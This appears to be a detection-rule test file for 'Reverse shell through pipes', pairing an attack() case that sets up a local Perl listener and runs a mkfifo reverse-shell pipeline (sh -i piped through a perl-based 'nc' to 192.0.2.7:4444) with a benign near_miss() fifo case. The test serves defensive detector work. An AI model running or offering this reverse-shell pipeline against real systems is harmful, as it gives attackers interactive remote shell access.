# rule: Reverse shell through pipes
# where: host
# needs: perl
attack() {
    echo '
    use IO::Socket;
    my $l = IO::Socket::INET->new(LocalAddr => "0.0.0.0", LocalPort => 4444, Listen => 1, ReuseAddr => 1) or die;
    open(R, ">", "ready"); close R; alarm 8;
    my $c = $l->accept;
    print $c "exit 0\n";
    $c->flush; shutdown($c, 1); 1 while <$c>;
    ' > master.pl
    perl master.pl &
    while [ ! -e ready ]; do sleep 0.05; done
    ln -s "$(command -v perl)" nc
    echo '
    use IO::Socket; $| = 1;
    my $s = IO::Socket::INET->new(PeerAddr => "192.0.2.7", PeerPort => 4444) or die;
    if (fork) { print while <$s> } else { print $s $_ while <STDIN> }
    ' > talk.pl
    sh -c 'rm -f f; mkfifo f; cat f | sh -i 2>&1 | ./nc talk.pl > f' || :
}
near_miss() {
    sh -c 'rm -f f; mkfifo f; cat f | tr a-z A-Z > log & echo line > f; wait'
}
